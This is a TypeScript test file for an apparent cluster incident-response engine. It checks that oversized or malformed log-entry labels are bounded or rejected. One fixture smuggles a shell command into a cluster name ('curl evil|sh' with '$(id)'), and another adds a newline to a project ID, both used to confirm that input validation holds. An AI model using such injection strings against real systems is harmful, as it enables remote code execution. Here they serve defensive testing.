import assert from 'node:assert/strict';
import fc from 'fast-check';
import {writeIncident} from '../../functions/adapters/store/incident-codec.ts';
import {runUntilSettled, sweep} from '../../functions/engine/operate/sweep.ts';
import {answered, incidentsOf, receive} from '../support/drive.ts';
import {gatewayEntry, stalledEntry, upgradeEntry, webhookEntry} from '../support/entries.ts';
import {assertSpoken, fleet, rig, shop} from '../support/fakes.ts';
import {minute} from '../support/incident.ts';

afterEach(assertSpoken);

/** Far below what a document of Firestore may have: 1 MiB. */
const room = 160 * 1024;
const long = 'x'.repeat(250_000);

describe('law 10: whatever comes from outside is bounded', () => {
  it('an incident stays small enough to be written, and can be answered', async () => {
    const {deps, world, clock} = await rig('approve');
    const details = Array.from({length: 40}, (_, n) => ({
      ...{code: `CODE_${n}`, severity: 'ERROR', details: long},
      documentationLink: `https://cloud.google.com/${long}`,
    }));
    world.fleetSays({controlPlane: 'STALLED', conditions: details, description: long});
    for (let n = 0; n < 30; n += 1) {
      await receive(deps, {
        ...stalledEntry({at: clock.now(), message: `${n} ${long}`}),
        insertId: `${n}${long}`,
      });
      // What the fleet says changes each time, so that each look is news.
      world.fleetSays({controlPlane: n % 2 === 0 ? 'STALLED' : 'DEGRADED', conditions: details});
      await sweep(deps);
      clock.advance(20 * minute);
    }
    world.disable(fleet.id);
    await receive(deps, {...gatewayEntry({at: clock.now()}), insertId: long});
    await sweep(deps);
    const all = await deps.store.all();
    assert.deepEqual(all.map(one => one.runbook).sort(), [
      'connect-gateway-disabled',
      'provisioning-stalled',
    ]);
    for (const one of all) {
      assert.ok(writeIncident(one).length < room, `${one.key}: ${writeIncident(one).length}`);
    }
    const [gateway] = await incidentsOf(deps, 'connect-gateway-disabled');
    assert.equal(gateway?.state, 'awaiting-approval');
    assert.equal(await answered(deps, gateway.id, 'approved'), 'taken');
    await runUntilSettled(deps);
    assert.deepEqual(world.writes, [`enableService ${fleet.id}`]);
  });

  it('an entry that names what cannot exist opens nothing, and says why', async () => {
    const {deps} = await rig();
    const labels = {
      'a label of 2,001 characters': {cluster_name: 'x'.repeat(2_001)},
      'a cluster that is a command': {cluster_name: 'l;curl evil|sh;#$(id)'},
      'a location of 250 KB': {location: long},
      'a project that breaks a line': {project_id: 'shop-prod\nsomebody'},
    };
    for (const [what, changed] of Object.entries(labels)) {
      for (const entry of [stalledEntry(), webhookEntry(), upgradeEntry()]) {
        const resource = entry['resource'] as {labels: object};
        const forged = {...resource, labels: {...resource.labels, ...changed}};
        const [received] = await receive(deps, {...entry, resource: forged});
        assert.ok(received?.kind === 'skipped' && received.reason.kind === 'foreign', what);
        assert.equal(received.reason.why.code, 'foreign.misnamed');
      }
    }
    assert.deepEqual(await deps.store.all(), []);
  });

  it('whatever labels an entry has, it is stored or left with a reason, and never fails', async () => {
    const {deps} = await rig();
    const value = fc.oneof(fc.string({unit: 'binary', maxLength: 3_000}), fc.constant(shop.id));
    await fc.assert(
      fc.asyncProperty(value, value, value, async (project, location, cluster) => {
        const resource = {
          type: 'k8s_cluster',
          labels: {project_id: project, location, cluster_name: cluster},
        };
        const [received] = await receive(deps, {...stalledEntry(), resource, insertId: cluster});
        assert.ok(received !== undefined && received.kind !== 'junk');
      }),
      {numRuns: 200},
    );
    for (const one of await deps.store.all()) assert.ok(one.key.length < 400);
  });
});
